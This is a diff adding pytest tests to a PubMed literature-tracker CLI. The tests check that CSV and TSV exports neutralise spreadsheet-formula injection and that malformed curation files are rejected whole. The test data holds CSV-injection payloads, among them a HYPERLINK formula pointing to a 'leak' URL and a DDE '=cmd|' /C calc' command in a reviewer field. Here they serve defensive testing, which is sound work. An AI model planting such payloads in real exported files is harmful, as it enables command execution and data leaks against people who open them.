@@ -7,10 +7,18 @@ one the tracker has always held and must go on holding.
 
 from __future__ import annotations
 
+import csv
+import json
 import sqlite3
+from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
 
+from tracker.cli import cli as main
+from tracker.link.curate import read_curation
+
+from .support.built import REPO, built  # noqa: F401  (a fixture)
 from .support.eutils_env import KEY, TERM
 from .support.hostile import HostileServer, Reply, esearch_body
 from .support.serving import get
@@ -105,3 +113,118 @@ def test_a_redirect_within_the_same_server_is_followed(run, db_path):
         result = run("sync", "--term", TERM, "--search", "kratom", env=env)
     assert result.exit_code == 0, result.output
     assert [s.path for s in server.seen][:2] == ["/old/esearch.fcgi", "/entrez/eutils/esearch.fcgi"]
+
+
+# ------------------------------------------------------------------ 2. spreadsheet formulas in exports
+
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak","open")'
+STARTERS = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
+
+
+@pytest.fixture
+def built_copy(built, tmp_path):
+    path = tmp_path / "copy.db"
+    with sqlite3.connect(built) as source, sqlite3.connect(path) as target:
+        source.backup(target)
+    return path
+
+
+def hostile_record_file(fixtures, tmp_path) -> Path:
+    """A real PubMed record with a formula for its title, one for its journal and one for an author."""
+    text = (fixtures / "biopython_entrez/pubmed4.xml").read_text(encoding="utf-8")
+    start, end = text.index("<ArticleTitle>"), text.index("</ArticleTitle>")
+    text = text[:start] + "<ArticleTitle>" + FORMULA.replace('"', "&quot;") + text[end:]
+    text = text.replace("<Title>", "<Title>+", 1).replace("<LastName>", "<LastName>@", 1)
+    path = tmp_path / "hostile.xml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def test_formulas_in_records_are_neutralised_in_csv_and_tsv_and_kept_in_json(run, fixtures, tmp_path, db_path):
+    assert run("load", hostile_record_file(fixtures, tmp_path)).exit_code == 0
+    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+        out = tmp_path / f"papers.{fmt}"
+        assert run("export", "papers", "--format", fmt, "-o", out).exit_code == 0
+        with out.open(encoding="utf-8", newline="") as handle:
+            (row,) = list(csv.DictReader(handle, delimiter=delimiter))
+        assert row["title"] == "'" + FORMULA
+        assert row["journal"].startswith("'+") and row["authors"].startswith("'@")
+    out = tmp_path / "papers.json"
+    assert run("export", "papers", "--format", "json", "-o", out).exit_code == 0
+    (paper,) = json.loads(out.read_text(encoding="utf-8"))
+    assert paper["title"] == FORMULA and paper["journal"].startswith("+") and paper["authors"][0].startswith("@")
+
+
+def test_formulas_in_notes_are_neutralised_in_links_and_curation_and_read_back_unchanged(run, built_copy, tmp_path):
+    decisions = tmp_path / "curation.csv"
+    with decisions.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle, lineterminator="\n")
+        writer.writerow(["claim_id", "pmid", "stance", "note", "reviewer", "date"])
+        for i, (note, pmid) in enumerate(zip(STARTERS, (21528385, 33257199, 34055525, 30920318, 31523332, 33200023))):
+            writer.writerow(["liver-protective", pmid, "contradicts", note.replace("\r", "\\r"), "=cmd|' /C calc'!A0",
+                             "2026-11-21"])
+        writer.writerow(["liver-protective", 29511414, "contradicts", "'=already quoted", "'reviewer", "2026-11-21"])
+    cli = ["--db", str(built_copy)]
+    assert CliRunner().invoke(main, [*cli, "curate", str(decisions)]).exit_code == 0
+    links = tmp_path / "links.csv"
+    assert CliRunner().invoke(main, [*cli, "export", "links", "--claim", "liver-protective", "-o", str(links)]).exit_code == 0
+    with links.open(encoding="utf-8", newline="") as handle:
+        notes = {row["pmid"]: row["stance_note"] for row in csv.DictReader(handle)}
+    assert notes["21528385"] == "'" + FORMULA and notes["34055525"] == "'-2+3"
+    exported = tmp_path / "exported.csv"
+    assert CliRunner().invoke(main, [*cli, "export", "curation", "-o", str(exported)]).exit_code == 0
+    cells = [cell for row in csv.reader(exported.open(encoding="utf-8", newline="")) for cell in row]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+    # Read back, the file gives the very notes and reviewers that went in.
+    assert [(d.note, d.reviewer) for d in read_curation(exported)] == [(d.note, d.reviewer) for d in read_curation(decisions)]
+
+
+# ------------------------------------------------------------------ 3. no decision silently lost
+
+
+def _curation_text() -> str:
+    return (REPO / "db/curation.csv").read_text(encoding="utf-8")
+
+
+def _decisions_in(db_path) -> list:
+    with sqlite3.connect(db_path) as connection:
+        return connection.execute("SELECT claim_id, pmid, stance, note FROM curation ORDER BY claim_id, pmid").fetchall()
+
+
+def _pmid_of_line(index, value):
+    def change(lines):
+        claim_id, _pmid, rest = lines[index].split(",", 2)
+        lines[index] = f"{claim_id},{value},{rest}"
+    return change
+
+
+@pytest.mark.parametrize("break_it, message", [
+    (lambda lines: lines.__setitem__(2, lines[2].replace(",Judged", ',"Judged', 1)), "line 3"),  # unclosed quote
+    (lambda lines: lines.__setitem__(3, lines[3] + ",extra"), "line 4"),
+    (lambda lines: lines.__setitem__(4, lines[4].rsplit(",", 1)[0]), "line 5"),
+    (lambda lines: lines.__setitem__(5, lines[5].replace("2026-11-21", "2026-13-45")), "line 6"),
+    (_pmid_of_line(6, "²"), "line 7"),
+    (_pmid_of_line(7, "3" * 23), "line 8"),
+], ids=["unclosed-quote", "extra-field", "missing-field", "bad-date", "superscript-pmid", "23-digit-pmid"])
+def test_a_curation_file_that_does_not_parse_cleanly_is_refused_whole(run, built_copy, tmp_path, break_it, message):
+    before = _decisions_in(built_copy)
+    assert len(before) > 30
+    lines = _curation_text().splitlines()
+    break_it(lines)
+    bad = tmp_path / "curation.csv"
+    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    result = CliRunner().invoke(main, ["--db", str(built_copy), "curate", str(bad)])
+    assert result.exit_code == 1, result.output
+    assert message in result.output and "Traceback" not in result.output
+    assert len(result.output.strip().splitlines()) == 1
+    assert _decisions_in(built_copy) == before
+
+
+def test_a_curation_file_written_with_a_bom_reads_back(run, built_copy, tmp_path):
+    out = tmp_path / "bom.csv"
+    cli = ["--db", str(built_copy)]
+    assert CliRunner().invoke(main, [*cli, "export", "curation", "--bom", "-o", str(out)]).exit_code == 0
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
+    result = CliRunner().invoke(main, [*cli, "curate", str(out)])
+    assert result.exit_code == 0, result.output
+    assert "nothing changed" in result.output
